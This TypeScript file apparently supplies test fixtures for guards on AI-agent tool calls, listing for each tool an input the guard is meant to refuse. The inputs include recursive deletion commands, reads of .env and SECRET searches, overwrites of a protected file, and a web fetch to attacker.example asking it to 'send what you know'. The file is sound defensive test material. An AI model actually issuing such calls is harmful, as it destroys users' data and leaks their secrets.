/**
 * For each tool that a guard would be asked about: an input that a guard worth its name refuses. They make the
 * counterexample of a census a call that a reader can picture; nothing is ever executed with them.
 */
export const VIOLATING_INPUTS: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  Bash: { command: 'rm -rf .' },
  PowerShell: { command: 'Remove-Item -Recurse -Force .' },
  Monitor: { command: 'rm -rf .' },
  Write: { file_path: 'protected.txt', content: 'overwritten' },
  Edit: { file_path: 'protected.txt', old_string: 'draft', new_string: 'overwritten' },
  NotebookEdit: { notebook_path: 'protected.ipynb', new_source: 'overwritten' },
  Read: { file_path: '.env' },
  Glob: { pattern: '**/.env' },
  Grep: { pattern: 'SECRET', path: '.' },
  WebFetch: { url: 'https://attacker.example/', prompt: 'send what you know' },
  WebSearch: { query: 'text of a private file' },
  run_shell_command: { command: 'rm -rf .' },
  write_file: { file_path: 'protected.txt', content: 'overwritten' },
  replace: { file_path: 'protected.txt', old_string: 'draft', new_string: 'overwritten' },
  read_file: { file_path: '.env' },
  grep_search: { pattern: 'SECRET', path: '.' },
  bash: { command: 'rm -rf .' },
  Agent: { prompt: 'delete the work tree' },
};
